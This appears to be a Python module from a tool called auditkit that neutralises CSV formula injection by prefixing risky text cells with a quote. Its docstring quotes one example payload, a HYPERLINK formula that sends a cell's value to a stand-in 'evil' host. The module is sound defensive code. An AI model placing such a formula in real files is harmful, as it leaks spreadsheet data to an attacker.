"""CSV cells that no spreadsheet will run as a formula (OWASP's CSV-injection rule).

Model names and voter ids come from the battle logs, so they are untrusted: a model named
``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(1+1)`` in ``leaderboard.csv`` would be evaluated by
Excel, LibreOffice or Google Sheets when an operator opens the file. Every CSV auditkit writes goes
through :func:`write_csv`, which prefixes a text cell that starts with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return with a single quote ``'`` so the spreadsheet shows it as text. Numbers are
left alone (a negative rating is a number, not a formula). :func:`restore_cell` undoes the prefix
for auditkit's own readers (``diff`` compares model names as they were in the log).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pandas as pd

__all__ = ["FORMULA_PREFIXES", "neutralise_cell", "neutralise_frame", "restore_cell", "write_csv"]

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: Any) -> Any:
    """``'`` + the text when a text cell starts like a formula; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def restore_cell(value: Any) -> Any:
    """The text :func:`neutralise_cell` was given (only a ``'`` it added is removed)."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_PREFIXES):
        return value[1:]
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy whose text columns (object or string dtype) are neutralised; numbers untouched."""
    out = frame.copy(deep=False)
    for name in out.columns:
        column = out[name]
        if column.dtype == object or isinstance(column.dtype, pd.StringDtype):
            out[name] = column.map(neutralise_cell, na_action="ignore")
    out.columns = [neutralise_cell(str(c)) for c in out.columns]
    return out


def write_csv(frame: pd.DataFrame, path: str | Path, **to_csv: Any) -> None:
    """``frame.to_csv(path, **to_csv)`` with every text cell neutralised (see the module docstring)."""
    neutralise_frame(frame).to_csv(path, **to_csv)
